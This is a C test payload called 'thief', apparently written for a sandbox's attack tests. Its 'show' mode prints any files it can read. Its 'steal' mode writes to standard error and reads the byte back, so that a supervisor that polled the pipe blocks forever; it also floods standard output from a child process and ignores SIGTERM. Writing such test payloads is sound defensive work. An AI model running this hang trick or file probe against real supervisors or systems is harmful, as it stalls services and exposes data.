/* SPDX-License-Identifier: MIT */

/*
 * A payload of the attack tests; static, so that it runs in any root.
 *
 *	thief show FILE...	writes what it can read of them
 *	thief steal		makes its reader wait for what it takes back
 */

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static int show(char **files)
{
	char buf[4096];

	for (; *files; files++) {
		int fd = open(*files, O_RDONLY | O_CLOEXEC);
		ssize_t n;

		if (fd < 0) {
			dprintf(2, "%s: %s\n", *files, strerror(errno));
			return 1;
		}
		while ((n = read(fd, buf, sizeof(buf))) > 0)
			if (write(1, buf, (size_t)n) != n)
				return 1;
		close(fd);
	}
	return 0;
}

static long now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000L + ts.tv_nsec;
}

/* Has the writer of the other pipe come to a stop? */
static bool is_stuck(const volatile unsigned long *written)
{
	unsigned long was = *written;

	for (int i = 0; i < 20; i++) {
		usleep(5000);
		if (*written != was)
			return false;
	}
	return true;
}

/*
 * A byte goes into the pipe of standard error and is taken out again: whoever
 * saw it by poll(), and then reads without O_NONBLOCK, never comes back.  A
 * stream on standard output keeps that one busy in between.
 */
static int steal(void)
{
	static char big[65536];
	volatile unsigned long *written = mmap(
	    NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
	    0);
	int back = open("/proc/self/fd/2", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	char byte;

	if (back < 0 || written == MAP_FAILED)
		return 1;
	signal(SIGTERM, SIG_IGN);
	if (fork() == 0)
		while (write(1, big, sizeof(big)) > 0)
			++*written;
	for (unsigned int i = 0; write(2, "y", 1) == 1; i++) {
		long until = now() + i % 64 * 1000L;

		while (now() < until)
			;
		if (read(back, &byte, 1) == 1 && i % 8 == 0 &&
		    is_stuck(written))
			break;
	}
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	if (argc > 2 && strcmp(argv[1], "show") == 0)
		return show(argv + 2);
	if (argc == 2 && strcmp(argv[1], "steal") == 0)
		return steal();
	return 64;
}
